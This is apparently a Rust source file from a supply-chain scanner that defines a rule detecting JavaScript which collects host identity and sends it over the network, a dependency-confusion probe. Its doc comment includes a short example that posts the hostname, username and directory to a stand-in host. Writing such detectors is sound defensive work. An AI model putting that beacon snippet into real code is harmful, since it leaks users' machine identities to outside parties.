use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;

use super::common::{context, host_data, is_js_network, js_sources};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds a JavaScript file that both collects the identity of the machine it runs on
/// — `os.hostname()`, `os.userInfo()`, `os.homedir()`, `os.networkInterfaces()`,
/// `dns.getServers()`, `process.env.USER`/`USERNAME`/`HOSTNAME`/`COMPUTERNAME`,
/// `whoami`/`hostname`/`uname`/`ipconfig` run as programs, the
/// whole `process.env`, or several of `os.platform()`/
/// `os.type()`/`os.release()`/`os.cpus()`… — and sends something over the network
/// (`http(s).request`, `fetch`, `dns.lookup`, `net`, …). High at base; critical when
/// the file runs by itself at install or import time, medium in a function of a
/// runtime-only file unless the collection is broad.
///
/// ## Why is this bad?
/// This is the dependency-confusion probe: a package uploaded under an internal-looking
/// name that, once installed inside a company, reports whose machine it landed on.
/// The same collection also opens most credential-stealing payloads. Ordinary
/// libraries read one or two of these values for their own use and do not ship them
/// off in the same file.
///
/// ## Example
/// ```javascript
/// const os = require("os"), https = require("https");
/// const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });
/// https.request({ hostname: "example.invalid", method: "POST" }).end(data);
/// ```
#[derive(Debug)]
pub struct HostFingerprintBeacon;

impl Rule for HostFingerprintBeacon {
    fn id(&self) -> &'static str {
        "JS-HOST-FINGERPRINT-BEACON"
    }
    fn category(&self) -> Category {
        Category::EXFILTRATION
    }
    fn summary(&self) -> &'static str {
        "collects host identity and sends it over the network"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, facts) in js_sources(input) {
            let host = host_data(facts);
            if !host.fingerprints() {
                continue;
            }
            let Some(net) = facts.calls.iter().find(|c| is_js_network(&c.callee)) else {
                continue;
            };
            let top_level = net.scope.is_none() || host.first.is_some_and(|c| c.scope.is_none());
            let broad = host.strong.len() + usize::from(host.whole_env.is_some()) >= 3;
            let severity = match (context(input, file), top_level) {
                (RunsAt::Install, _) | (RunsAt::Import, true) => Severity::Critical,
                (RunsAt::Import, false) | (RunsAt::Runtime, true) => Severity::High,
                (RunsAt::Runtime, false) if broad => Severity::High,
                (RunsAt::Runtime, false) => Severity::Medium,
            };
            out.push(finding(
                self.id(),
                severity,
                self.category(),
                format!(
                    "collects host identity ({}) and sends over the network with `{}`",
                    host.describe(),
                    net.callee
                ),
                Some(&file.path),
                Some(net.line),
                Some(&net.snippet),
            ));
        }
    }
}
